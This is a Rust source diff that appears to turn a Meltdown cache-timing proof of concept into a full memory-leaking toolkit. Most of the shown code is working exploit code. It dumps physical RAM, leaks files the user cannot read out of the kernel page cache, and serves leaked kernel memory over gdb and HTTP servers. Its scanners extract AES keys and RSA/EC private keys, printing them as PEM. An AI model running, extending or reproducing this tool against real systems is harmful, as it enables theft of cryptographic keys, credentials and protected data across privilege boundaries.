+        (None, &None) => physmap::memory_size(),
+    };
+    if end <= opts.start {
+        return Err(io::Error::new(
+            io::ErrorKind::Other,
+            "`--start` is past the end of RAM, pass `--end`",
+        ));
+    }
+    let ranges: Vec<Range<usize>> = match ram {
+        Some(ram) => ram.into_iter()
+            .map(|range| max(range.start, opts.start)..min(range.end, end))
+            .filter(|range| range.start < range.end)
+            .collect(),
+        None => vec![opts.start..end],
+    };
+
+    // the state is saved as JSON, which only holds a path that is UTF-8
+    if opts.resume.is_some() && opts.out.to_str().is_none() {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            "`--resume` needs an `--out` path that is valid UTF-8",
+        ));
+    }
+    let resumed = match opts.resume {
+        Some(ref path) if path.exists() => Some(DumpState::load(path)?),
+        _ => None,
+    };
+    if let Some(ref state) = resumed {
+        if state.out != opts.out
+            || state.format != opts.format
+            || state.start != opts.start
+            || state.end != end
+        {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidInput,
+                "the dump being resumed had other options",
+            ));
+        }
     }
 
-    // time how long it takes to read the first cache line of each page of buf
-    // the index with the smallest time is likely the value of *secret
-    (0..256)
-        .min_by_key(|i| probe(buf.add(i * PAGE_SIZE)))
-        .unwrap() as u8
+    let mut reader = make_reader(&opts.reader)?;
+    let base = direct_map_base(&reader, opts.page_offset)?;
+    let file = match resumed {
+        Some(ref state) => {
+            if opts.reader.calibration.is_none() {
+                reader.set_calibration(state.calibration);
+                eprintln!(
+                    "resuming from 0x{:x} with the dump's hit threshold: {} cycles",
+                    state.next, state.calibration.threshold
+                );
+            }
+            OpenOptions::new().write(true).open(&opts.out)?
+        }
+        None => File::create(&opts.out)?,
+    };
+    let mut out = BufWriter::new(file);
+    // everything before next was written before the dump was resumed
+    let next = resumed.as_ref().map_or(opts.start, |state| state.next);
+    // where the next byte written lands, to seek only past holes
+    let mut position = 0;
+    let mut skipped = resumed.as_ref().map_or(0, |state| state.skipped);
+    let started = Instant::now();
+    let mut walked_to = opts.start;
+    // where the contents of the range after the last one go in a LiME image
+    let mut lime_end = 0;
+    // everything before reached is written, for when the dump is interrupted
+    let mut reached = next;
+    interrupt::install()?;
+    for range in ranges {
+        if interrupt::interrupted() {
+            break;
+        }
+        if range.end <= next {
+            if opts.format == RamFormat::Lime {
+                lime_end += lime::HEADER_LEN + range.len()
+            }
+            walked_to = range.end;
+            continue;
+        }
+        // whether some of the range was written before the dump was resumed
+        let resuming = range.start < next;
+        if !resuming {
+            skipped += range.start - walked_to;
+        }
+        // where the range's first byte goes in the file
+        let file_start = match opts.format {
+            RamFormat::Raw => range.start - opts.start,
+            RamFormat::Lime => {
+                if !resuming {
+                    if lime_end != position {
+                        out.seek(SeekFrom::Start(lime_end as u64))?;
+                    }
+                    out.write_all(&lime::header(&range))?;
+                    position = lime_end + lime::HEADER_LEN;
+                }
+                let file_start = lime_end + lime::HEADER_LEN;
+                lime_end = file_start + range.len();
+                file_start
+            }
+        };
+        let mut addr = max(range.start, next);
+        while addr < range.end && !interrupt::interrupted() {
+            let region_end = min(range.end, (addr / RAM_REGION_LEN + 1) * RAM_REGION_LEN);
+            while addr < region_end && !interrupt::interrupted() {
+                let len = min(region_end, (addr / PAGE_SIZE + 1) * PAGE_SIZE) - addr;
+                let page = (base + addr) as *const u8;
+                let first = reader.guess_range(page, min(LINE_LEN, len));
+                if first.iter().all(|guess| guess.value.is_none()) {
+                    skipped += len;
+                } else {
+                    let offset = file_start + addr - range.start;
+                    if offset != position {
+                        out.seek(SeekFrom::Start(offset as u64))?;
+                    }
+                    let rest =
+                        reader.guess_range(page.wrapping_add(first.len()), len - first.len());
+                    let bytes: Vec<u8> = first
+                        .iter()
+                        .chain(&rest)
+                        .map(|guess| guess.value.unwrap_or(0))
+                        .collect();
+                    out.write_all(&bytes)?;
+                    position = offset + len;
+                }
+                addr += len;
+            }
+            let done = addr - opts.start;
+            eprint!(
+                "\r{} of {} MiB, {} MiB skipped as holes, {:.1} KiB/s",
+                done >> 20,
+                (end - opts.start) >> 20,
+                skipped >> 20,
+                done as f64 / 1024.0 / secs(started.elapsed())
+            );
+            if let Some(ref path) = opts.resume {
+                out.flush()?;
+                let state = DumpState {
+                    out: opts.out.clone(),
+                    format: opts.format,
+                    start: opts.start,
+                    end,
+                    next: addr,
+                    skipped,
+                    calibration: *reader.calibration(),
+                };
+                state.save(path)?
+            }
+            reached = addr;
+        }
+        walked_to = range.end;
+    }
+    eprintln!();
+    if interrupt::interrupted() {
+        out.flush()?;
+        match opts.resume {
+            Some(ref path) if path.exists() => eprintln!(
+                "interrupted at 0x{:x}, saved to {}. run the same command to carry on",
+                reached,
+                path.display()
+            ),
+            _ => eprintln!("interrupted at 0x{:x}, {} is incomplete", reached, opts.out.display()),
+        }
+        return Ok(());
+    }
+    // holes at the end still count towards the file's length
+    let len = match opts.format {
+        RamFormat::Raw => end - opts.start,
+        RamFormat::Lime => lime_end,
+    };
+    out.into_inner()?.set_len(len as u64)?;
+    if let Some(ref path) = opts.resume {
+        if path.exists() {
+            fs::remove_file(path)?
+        }
+    }
+    eprintln!("wrote {}", opts.out.display());
+    Ok(())
+}
+
+// leaks a file out of the page cache, labelled with offsets into the file
+fn dump_file(opts: &DumpFileOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let kernel = kernel_offsets()?;
+    let offsets = kernel.page_cache.ok_or_else(|| {
+        io::Error::new(
+            io::ErrorKind::Other,
+            format!("the page cache of {} kernels can't be walked", kernel.release),
+        )
+    })?;
+    let path = opts.path.display();
+    // stat only needs the directory to be searchable, not the file readable
+    let metadata = fs::metadata(&opts.path)
+        .map_err(|e| io::Error::new(e.kind(), format!("{}: {}", path, e)))?;
+    if !metadata.is_file() {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            format!("{} is not a regular file", path),
+        ));
+    }
+    // reading the file caches all of it
+    match File::open(&opts.path).and_then(|mut file| io::copy(&mut file, &mut io::sink())) {
+        Ok(_) => eprintln!("read {} to cache it", path),
+        Err(ref e) if e.kind() == io::ErrorKind::PermissionDenied => {
+            eprintln!("can't read {}, so only what is cached already can be leaked", path)
+        }
+        Err(e) => return Err(e),
+    }
+    let symbols = kernel_symbols(opts.system_map.as_ref().map(|p| p.as_path()))?;
+    let symbol = |name: &str| {
+        symbols.resolve(&SymbolTarget {
+            name: name.to_owned(),
+            offset: 0,
+        })
+    };
+    let super_blocks = symbol("super_blocks")?;
+    let vmemmap_base = symbol("vmemmap_base")?;
+
+    let reader = make_reader(&opts.reader)?;
+    let vmemmap = read_pointer(&reader, vmemmap_base).ok_or_else(|| {
+        io::Error::new(io::ErrorKind::InvalidData, "could not leak vmemmap_base")
+    })?;
+    eprintln!("vmemmap: 0x{:016x}", vmemmap);
+    let direct_map = direct_map_base(&reader, opts.page_offset)?;
+    let dev = page_cache::kernel_dev(metadata.dev());
+    let super_block = page_cache::find_super_block(&reader, super_blocks, dev).ok_or_else(|| {
+        io::Error::new(
+            io::ErrorKind::NotFound,
+            format!("could not find the filesystem {} is on", path),
+        )
+    })?;
+    eprintln!("super block: 0x{:016x}", super_block);
+    let inode = page_cache::find_inode(&reader, &offsets, super_block, metadata.ino())
+        .ok_or_else(|| {
+            io::Error::new(
+                io::ErrorKind::NotFound,
+                format!("could not find inode {} of {}", metadata.ino(), path),
+            )
+        })?;
+    eprintln!("inode: 0x{:016x}", inode);
+
+    let stdout = io::stdout();
+    let mut out: Box<Write> = match opts.out {
+        Some(ref path) => Box::new(BufWriter::new(File::create(path)?)),
+        None => Box::new(stdout.lock()),
+    };
+    let len = metadata.len() as usize;
+    let mut cached = 0;
+    for (index, page_start) in (0..len).step_by(PAGE_SIZE).enumerate() {
+        let page_len = min(len - page_start, PAGE_SIZE);
+        let physical = page_cache::find_page(&reader, &offsets, inode, index)
+            .and_then(|page| page_cache::page_physical(page, vmemmap));
+        if physical.is_some() {
+            cached += 1
+        }
+        for line_start in (0..page_len).step_by(LINE_LEN) {
+            let line_len = min(page_len - line_start, LINE_LEN);
+            let guesses = match physical {
+                Some(physical) => reader.guess_range(
+                    (direct_map + physical + line_start) as *const u8,
+                    line_len,
+                ),
+                None => vec![UNREAD; line_len],
+            };
+            dump_hex(&mut out, (page_start + line_start) as *const u8, &guesses)?
+        }
+    }
+    out.flush()?;
+    eprintln!(
+        "{} of {} pages were cached",
+        cached,
+        (len + PAGE_SIZE - 1) / PAGE_SIZE
+    );
+    Ok(())
 }
 
-// read a byte from an arbitrary address
-#[inline(never)]
-unsafe fn guess_byte(secret: *const u8, buf: *const u8) -> u8 {
-    const PROBE_COUNT: usize = 5;
-    let mut hit_counts: [usize; 256] = [0; 256];
+// serves gdb's remote protocol to one debugger at a time, answering memory
+// reads with leaked reads
+fn gdbserver(opts: &GdbServerOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    let server = rsp::Server::new(&reader);
+    let listener = TcpListener::bind((&opts.listen[..], opts.port))?;
+    let local = listener.local_addr()?;
+    eprintln!("listening on {}, connect with `target remote {}`", local, local);
+    for stream in listener.incoming() {
+        let stream = stream?;
+        let peer = stream.peer_addr()?;
+        eprintln!("{} connected", peer);
+        // a failed session shouldn't stop the server
+        match stream
+            .try_clone()
+            .and_then(|input| server.serve(BufReader::new(input), &stream))
+        {
+            Ok(()) => eprintln!("{} disconnected", peer),
+            Err(e) => eprintln!("{}: {}", peer, e),
+        }
+    }
+    Ok(())
+}
 
-    // probe multiple times to increase the likelihood that
-    // we have determined the correct value of *secret
-    for _ in 0..PROBE_COUNT {
-        // the index with the smallest time is likely the value of *secret
-        // so increase the hit count on that value in our tests buf
-        hit_counts[guess_byte_once(secret, buf) as usize] += 1
+// the address target points at, loading the kernel's symbols into symbols
+// the first time, so a System.map is only relocated once per run
+fn cached_symbol(
+    symbols: &mut Option<Symbols>,
+    system_map: Option<&Path>,
+    target: &SymbolTarget,
+) -> io::Result<usize> {
+    if symbols.is_none() {
+        *symbols = Some(kernel_symbols(system_map)?);
     }
+    symbols.as_ref().unwrap().resolve(target)
+}
 
-    // the value with the largest hit count is likely the value of *secret
-    hit_counts
-        .iter()
-        .enumerate()
-        .max_by_key(|&(_, &item)| item)
-        .unwrap()
-        .0 as u8
+fn apply_setting(reader: &mut MeltdownReader, setting: &Setting) -> io::Result<()> {
+    match *setting {
+        Setting::Probes(probes) => reader.set_probe_count(probes),
+        Setting::MinConfidence(min_confidence) => {
+            let retries = reader.max_retries();
+            reader.set_min_confidence(min_confidence, retries)
+        }
+        Setting::Retries(retries) => {
+            let min_confidence = reader.min_confidence();
+            reader.set_min_confidence(min_confidence, retries)
+        }
+        Setting::Channel(channel) => reader.set_channel(channel)?,
+        Setting::DualProbe(dual_probe) => reader.set_dual_probe(dual_probe),
+        Setting::Pipeline(pipelined) => reader.set_pipelined(pipelined)?,
+        Setting::Evict(evict) => reader.set_evict(evict)?,
+        Setting::Hugepages(hugepages) => reader.set_hugepages(hugepages)?,
+    }
+    Ok(())
+}
+
+// runs a line of the repl. false once the session should end
+fn repl_line<W: Write>(
+    reader: &mut MeltdownReader,
+    line: &Line,
+    symbols: &mut Option<Symbols>,
+    system_map: Option<&Path>,
+    out: &mut W,
+) -> io::Result<bool> {
+    match *line {
+        Line::Read { ref addr, len } => {
+            let addr = match *addr {
+                Addr::Number(addr) => addr,
+                Addr::Symbol(ref target) => cached_symbol(symbols, system_map, target)?,
+            };
+            for chunk_start in (0..len).step_by(LINE_LEN) {
+                let chunk_addr = (addr as *const u8).wrapping_add(chunk_start);
+                let guesses = reader.guess_range(chunk_addr, min(len - chunk_start, LINE_LEN));
+                dump_hex(out, chunk_addr, &guesses)?
+            }
+        }
+        Line::Sym(ref target) => {
+            let addr = cached_symbol(symbols, system_map, target)?;
+            writeln!(out, "0x{:016x}", addr)?
+        }
+        Line::Set(ref setting) => apply_setting(reader, setting)?,
+        Line::Show => {
+            writeln!(out, "probes: {}", reader.probe_count())?;
+            writeln!(out, "min-confidence: {}", reader.min_confidence())?;
+            writeln!(out, "retries: {}", reader.max_retries())?;
+            writeln!(out, "channel: {:?}", reader.channel())?;
+            writeln!(out, "dual-probe: {}", repl::format_switch(reader.dual_probe()))?;
+            writeln!(out, "pipeline: {}", repl::format_switch(reader.pipelined()))?;
+            writeln!(out, "evict: {}", repl::format_switch(reader.evict()))?;
+            writeln!(out, "hugepages: {}", repl::format_switch(reader.hugepages()))?;
+            writeln!(out, "hit threshold: {} cycles", reader.calibration().threshold)?
+        }
+        Line::Calibrate(samples) => {
+            let calibration = reader.calibrate(samples);
+            writeln!(out, "hit threshold: {} cycles", calibration.threshold)?;
+            reader.set_calibration(calibration)
+        }
+        Line::Help => writeln!(out, "{}", repl::HELP)?,
+        Line::Quit => return Ok(false),
+        Line::Empty => {}
+    }
+    out.flush()?;
+    Ok(true)
 }
 
-#[inline]
-fn human_readable(byte: u8) -> char {
-    match byte {
-        b' '...b'~' => byte as char,
-        _ => '.',
+// reads commands from stdin and runs them all with one reader, so only the
+// first pays for calibrating. a command that fails is reported and the
+// session goes on
+fn repl(opts: &ReplOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let mut reader = make_reader(&opts.reader)?;
+    let system_map = opts.system_map.as_ref().map(|p| p.as_path());
+    let mut symbols = None;
+    eprintln!("type `help` for a list of commands");
+    let stdin = io::stdin();
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    let mut lines = stdin.lock().lines();
+    loop {
+        // the prompt goes to stderr, to keep stdout to what was read
+        eprint!("meltdown> ");
+        let line = match lines.next() {
+            Some(line) => line?,
+            None => break,
+        };
+        let result = repl::parse_line(&line)
+            .map_err(|e| io::Error::new(io::ErrorKind::InvalidInput, e))
+            .and_then(|line| repl_line(&mut reader, &line, &mut symbols, system_map, &mut out));
+        match result {
+            Ok(true) => {}
+            Ok(false) => break,
+            Err(e) => eprintln!("error: {}", e),
+        }
     }
+    Ok(())
 }
 
-#[inline(never)]
-fn dump_hex(addr: *const u8, s: &[u8]) {
-    assert!(s.len() <= LINE_LEN);
+// leaks every target of a batch with one reader, so a script with many reads
+// only pays for calibrating once. the whole batch is parsed first, so a typo
+// on its last line doesn't waste the reads before it
+fn batch(opts: &BatchOptions) -> io::Result<()> {
+    let mut text = String::new();
+    match opts.input {
+        Some(ref path) => File::open(path)?.read_to_string(&mut text)?,
+        None => io::stdin().read_to_string(&mut text)?,
+    };
+    let targets = batch::parse(&text)
+        .map_err(|e| io::Error::new(io::ErrorKind::InvalidInput, e))?;
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    let system_map = opts.system_map.as_ref().map(|p| p.as_path());
+    let mut symbols = None;
+    let mut out: Box<Write> = match opts.out {
+        Some(ref path) => Box::new(BufWriter::new(File::create(path)?)),
+        None => Box::new(io::stdout()),
+    };
+    for target in &targets {
+        let addr = match target.addr {
+            Addr::Number(addr) => addr,
+            // a symbol that can't be found only fails its own line
+            Addr::Symbol(ref symbol) => match cached_symbol(&mut symbols, system_map, symbol) {
+                Ok(addr) => addr,
+                Err(e) => {
+                    eprintln!("{}: {}", target.label, e);
+                    continue;
+                }
+            },
+        };
+        let guesses = reader.guess_range(addr as *const u8, target.len);
+        writeln!(out, "{}", batch::format_result(&target.label, addr, &guesses))?;
+    }
+    out.flush()
+}
 
-    print!("0x{:016X} | ", addr as usize);
-    for chunk in s.chunks(CHUNK_SIZE) {
-        for byte in chunk {
-            print!("{:02X}", byte)
+// serves leaked reads as JSON over HTTP, one request at a time
+fn http(opts: &HttpOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    let server = http::Server::new(&reader);
+    let listener = TcpListener::bind((&opts.listen[..], opts.port))?;
+    let local = listener.local_addr()?;
+    eprintln!("listening on http://{}/read?addr=...&len=...", local);
+    for stream in listener.incoming() {
+        let stream = stream?;
+        // a failed request shouldn't stop the server
+        if let Err(e) = server.serve(BufReader::new(&stream), &stream) {
+            eprintln!("{}", e);
         }
-        print!(" ")
     }
-    let remainder = LINE_LEN - s.len();
-    for _ in 0..remainder {
-        print!("  ");
+    Ok(())
+}
+
+// leaks a range a page at a time and prints the runs of text in it, as each
+// is found
+fn strings(opts: &StringsOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
     }
-    for _ in 0..remainder / 8 {
-        print!(" ");
+    let reader = make_reader(&opts.reader)?;
+    interrupt::install()?;
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    let mut scanner = strings::Scanner::new(opts.min_len);
+    for chunk_start in (0..opts.len).step_by(PAGE_SIZE) {
+        if interrupt::interrupted() {
+            report_interrupted(opts.addr, chunk_start, opts.len);
+            break;
+        }
+        let chunk_addr = opts.addr + chunk_start;
+        let chunk_len = min(opts.len - chunk_start, PAGE_SIZE);
+        let bytes = reader.read_range(chunk_addr as *const u8, chunk_len);
+        for run in scanner.feed(chunk_addr, &bytes) {
+            writeln!(out, "0x{:016x} {}", run.addr, run.text)?
+        }
     }
-    print!("| ");
-    for &byte in s {
-        print!("{}", human_readable(byte))
+    if let Some(run) = scanner.finish() {
+        writeln!(out, "0x{:016x} {}", run.addr, run.text)?
     }
-    println!("");
+    out.flush()
 }
 
-fn main() {
-    assert_eq!(page_size::get(), PAGE_SIZE);
+// prints every address in a range the pattern is found at, as each is found
+fn search(opts: &SearchOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    let mut count = 0;
+    for addr in search::find(&reader, opts.addr, opts.len, &opts.pattern) {
+        writeln!(out, "0x{:016x}", addr)?;
+        count += 1;
+    }
+    eprintln!("{} matches", count);
+    out.flush()
+}
 
-    static TEST: &'static str = "papa, can you hear me?";
-    let start_addr = TEST.as_ptr();
-    let len = TEST.len();
+// leaks a range a page at a time, measuring the entropy of its windows, and
+// lists the most random regions once it is all leaked
+fn entropy(opts: &EntropyOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    interrupt::install()?;
+    let mut scanner = entropy::Scanner::new(opts.window, opts.step, opts.threshold);
+    for chunk_start in (0..opts.len).step_by(PAGE_SIZE) {
+        if interrupt::interrupted() {
+            report_interrupted(opts.addr, chunk_start, opts.len);
+            break;
+        }
+        let chunk_addr = opts.addr + chunk_start;
+        let chunk_len = min(opts.len - chunk_start, PAGE_SIZE);
+        scanner.feed(chunk_addr, &reader.read_range(chunk_addr as *const u8, chunk_len));
+    }
+    let regions = scanner.finish();
+    if regions.is_empty() {
+        eprintln!("no window reached {} bits per byte", opts.threshold);
+    }
+    for region in regions.iter().take(opts.top) {
+        println!(
+            "0x{:016x} {:6} bytes  {:.2} bits per byte",
+            region.addr, region.len, region.score
+        );
+    }
+    Ok(())
+}
 
-    let poke_buf = unsafe {
-        Heap.alloc(Layout::from_size_align_unchecked(
-            256 * PAGE_SIZE,
-            PAGE_SIZE,
-        ))
-    }.unwrap();
+fn print_aes_key<W: Write>(out: &mut W, key: &aes::Key) -> io::Result<()> {
+    let hex: Vec<String> = key.key.iter().map(|byte| format!("{:02x}", byte)).collect();
+    let size = match key.size {
+        KeySize::Aes128 => "AES-128",
+        KeySize::Aes256 => "AES-256",
+    };
+    writeln!(
+        out,
+        "0x{:016x} {} {} ({} bits off)",
+        key.addr,
+        size,
+        hex.concat(),
+        key.errors
+    )
+}
 
-    println!(
-        "poke buffer: 0x{:016X}, page size: {}",
-        poke_buf as usize, PAGE_SIZE
+// leaks a range a page at a time and prints every AES key whose schedule is
+// in it, as each is found
+fn aes_keys(opts: &AesKeysOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    interrupt::install()?;
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    let mut scanner = aes::Scanner::new(opts.max_errors);
+    for chunk_start in (0..opts.len).step_by(PAGE_SIZE) {
+        if interrupt::interrupted() {
+            report_interrupted(opts.addr, chunk_start, opts.len);
+            break;
+        }
+        let chunk_addr = opts.addr + chunk_start;
+        let chunk_len = min(opts.len - chunk_start, PAGE_SIZE);
+        let bytes = reader.read_range(chunk_addr as *const u8, chunk_len);
+        for key in scanner.feed(chunk_addr, &bytes) {
+            print_aes_key(&mut out, &key)?
+        }
+    }
+    for key in scanner.finish() {
+        print_aes_key(&mut out, &key)?
+    }
+    out.flush()
+}
+
+fn print_private_key<W: Write>(out: &mut W, key: &PrivateKey) -> io::Result<()> {
+    let (kind, check) = match key.algorithm {
+        Algorithm::Rsa { bits } => {
+            let check = match key.valid {
+                Some(true) => "its primes multiply to its modulus",
+                _ => "its primes don't multiply to its modulus, some of it was misread",
+            };
+            (format!("RSA-{}", bits), check)
+        }
+        Algorithm::Ec { curve } => {
+            let check = match key.valid {
+                Some(true) => "less than the order of its curve",
+                Some(false) => "not less than the order of its curve, some of it was misread",
+                None => "not checked",
+            };
+            (format!("EC {}", curve.unwrap_or("on an unknown curve")), check)
+        }
+    };
+    let structure = match key.structure {
+        Structure::Pkcs1 => "PKCS#1",
+        Structure::Sec1 => "SEC1",
+        Structure::Pkcs8 => "PKCS#8",
+    };
+    let encoding = match key.encoding {
+        Encoding::Der => "DER",
+        Encoding::Pem => "PEM",
+    };
+    writeln!(out, "0x{:016x} {} {} {}, {}", key.addr, kind, structure, encoding, check)?;
+    // PEM lines are 64 characters, 48 bytes of DER
+    let label = key.structure.pem_label();
+    writeln!(out, "-----BEGIN {}-----", label)?;
+    for line in key.der.chunks(48) {
+        writeln!(out, "{}", base64(line))?
+    }
+    writeln!(out, "-----END {}-----", label)
+}
+
+// says how far a run over the len bytes from addr got before it was
+// interrupted
+fn report_interrupted(addr: usize, done: usize, len: usize) {
+    eprintln!("interrupted at 0x{:016x}, {} of {} bytes done", addr + done, done, len)
+}
+
+// leaks a range a page at a time and prints every private key in it, as
+// each is found
+fn priv_keys(opts: &PrivKeysOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    interrupt::install()?;
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    let mut scanner = privkey::Scanner::new();
+    for chunk_start in (0..opts.len).step_by(PAGE_SIZE) {
+        if interrupt::interrupted() {
+            report_interrupted(opts.addr, chunk_start, opts.len);
+            break;
+        }
+        let chunk_addr = opts.addr + chunk_start;
+        let chunk_len = min(opts.len - chunk_start, PAGE_SIZE);
+        let bytes = reader.read_range(chunk_addr as *const u8, chunk_len);
+        for key in scanner.feed(chunk_addr, &bytes) {
+            print_private_key(&mut out, &key)?
+        }
+    }
+    for key in scanner.finish() {
+        print_private_key(&mut out, &key)?
+    }
+    out.flush()
+}
+
+// samples a range and prints its regions as each is found
+fn survey(opts: &SurveyOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    let width = if opts.word { 8 } else { 1 };
+    for region in survey::survey(&reader, opts.addr, opts.len, opts.stride, width) {
+        let class = match region.class {
+            survey::Class::Unleaked => "unleaked",
+            survey::Class::Zero => "zero",
+            survey::Class::Data => "data",
+        };
+        write!(
+            out,
+            "0x{:016x}-0x{:016x} {:<8} {:8} samples",
+            region.addr,
+            region.addr + region.len,
+            class,
+            region.samples
+        )?;
+        match region.entropy {
+            Some(entropy) => writeln!(out, ", {:.2} bits per byte", entropy)?,
+            None => writeln!(out, "")?,
+        }
+    }
+    out.flush()
+}
+
+// the local time of day, to the millisecond
+fn timestamp() -> String {
+    let now = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .unwrap_or_default();
+    let secs = now.as_secs() as libc::time_t;
+    let mut tm: libc::tm = unsafe { mem::zeroed() };
+    unsafe { libc::localtime_r(&secs, &mut tm) };
+    format!(
+        "{:02}:{:02}:{:02}.{:03}",
+        tm.tm_hour,
+        tm.tm_min,
+        tm.tm_sec,
+        now.subsec_nanos() / 1_000_000
+    )
+}
+
+// leaks a range every interval until interrupted, printing it whole the
+// first time and then the lines of it that changed, and then how many reads
+// changed. a byte that doesn't leak keeps the value it last leaked as, so
+// misses don't show up as changes
+fn watch(opts: &WatchOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    interrupt::install()?;
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    let mut known: Option<Vec<ByteGuess>> = None;
+    let (mut reads, mut changes) = (0, 0);
+    let started = Instant::now();
+    while !interrupt::interrupted() {
+        let guesses = reader.guess_range(opts.addr as *const u8, opts.len);
+        let changed: Vec<bool> = match known {
+            None => vec![true; opts.len],
+            Some(ref known) => guesses
+                .iter()
+                .zip(known)
+                .map(|(guess, known)| guess.value.is_some() && guess.value != known.value)
+                .collect(),
+        };
+        let current = match known.take() {
+            None => guesses,
+            Some(known) => guesses
+                .into_iter()
+                .zip(known)
+                .map(|(guess, known)| if guess.value.is_some() { guess } else { known })
+                .collect(),
+        };
+        let count = changed.iter().filter(|&&changed| changed).count();
+        reads += 1;
+        if count > 0 && reads > 1 {
+            changes += 1
+        }
+        if count > 0 {
+            writeln!(out, "{} {} bytes changed", timestamp(), count)?;
+            for (i, line) in current.chunks(LINE_LEN).enumerate() {
+                if changed[i * LINE_LEN..][..line.len()].iter().any(|&changed| changed) {
+                    dump_hex(&mut out, (opts.addr + i * LINE_LEN) as *const u8, line)?
+                }
+            }
+            out.flush()?;
+        }
+        known = Some(current);
+        thread::sleep(opts.interval);
+    }
+    eprintln!(
+        "{} reads, {} of which changed, over {:.1}s",
+        reads,
+        changes,
+        secs(started.elapsed())
     );
+    Ok(())
+}
 
-    for chunk_start in (0..len).step_by(LINE_LEN) {
-        let bytes_to_read = min(len - chunk_start, LINE_LEN);
-        let mut s: [u8; LINE_LEN] = unsafe { uninitialized() };
-        for x in 0..bytes_to_read {
-            s[x] = unsafe { guess_byte(start_addr.add(chunk_start + x), poke_buf) }
+// a read as diff prints it, its value and confidence
+fn format_read(read: &ByteGuess) -> String {
+    match read.value {
+        Some(value) => format!("{:02x} ({:3.0}%)", value, read.confidence() * 100.0),
+        None => "?? (   -)".to_owned(),
+    }
+}
+
+// prints a line per byte whose reads differ, as they are compared, and then
+// how many did to stderr
+fn diff(opts: &DiffOptions) -> io::Result<()> {
+    let bytes: Vec<(usize, Vec<ByteGuess>)> = match opts.source {
+        DiffSource::Dumps(ref a, ref b) => {
+            let a = diff::read_json(BufReader::new(File::open(a)?))?;
+            let b = diff::read_json(BufReader::new(File::open(b)?))?;
+            // a byte a dump has more than once is compared by its last read
+            let a: BTreeMap<usize, ByteGuess> = a.into_iter().collect();
+            let b: BTreeMap<usize, ByteGuess> = b.into_iter().collect();
+            let only_a = a.keys().filter(|addr| !b.contains_key(addr)).count();
+            let only_b = b.keys().filter(|addr| !a.contains_key(addr)).count();
+            if only_a > 0 || only_b > 0 {
+                eprintln!("{} bytes only in the first dump, {} only in the second", only_a, only_b);
+            }
+            a.into_iter()
+                .filter_map(|(addr, read)| b.get(&addr).map(|&other| (addr, vec![read, other])))
+                .collect()
+        }
+        DiffSource::Passes { addr, len, passes } => {
+            if let Some(reason) = unsupported_vendor(&opts.reader) {
+                return Err(io::Error::new(io::ErrorKind::Other, reason));
+            }
+            let reader = make_reader(&opts.reader)?;
+            let passes: Vec<Vec<ByteGuess>> = (0..passes)
+                .map(|_| reader.guess_range(addr as *const u8, len))
+                .collect();
+            (0..len)
+                .map(|i| (addr + i, passes.iter().map(|pass| pass[i]).collect()))
+                .collect()
+        }
+    };
+    let stdout = io::stdout();
+    let mut out = stdout.lock();
+    let (mut changed, mut noise) = (0, 0);
+    for &(addr, ref reads) in &bytes {
+        let difference = match diff::compare(reads, opts.threshold) {
+            Some(difference) => difference,
+            None => continue,
+        };
+        let reads: Vec<String> = reads.iter().map(format_read).collect();
+        let label = match difference {
+            Difference::Changed => {
+                changed += 1;
+                "changed"
+            }
+            Difference::Noise => {
+                noise += 1;
+                "noise"
+            }
+        };
+        writeln!(out, "0x{:016x}  {}  {}", addr, reads.join(" -> "), label)?
+    }
+    out.flush()?;
+    eprintln!("{} bytes changed, {} differed by noise", changed, noise);
+    Ok(())
+}
+
+// binds a unix socket at path, replacing a stale one that nothing listens on
+// any more, but not one a running daemon is still serving
+fn bind_socket(path: &Path) -> io::Result<UnixListener> {
+    match UnixListener::bind(path) {
+        Err(ref e) if e.kind() == io::ErrorKind::AddrInUse => {}
+        result => return result,
+    }
+    match UnixStream::connect(path) {
+        Err(ref e) if e.kind() == io::ErrorKind::ConnectionRefused => {
+            fs::remove_file(path)?;
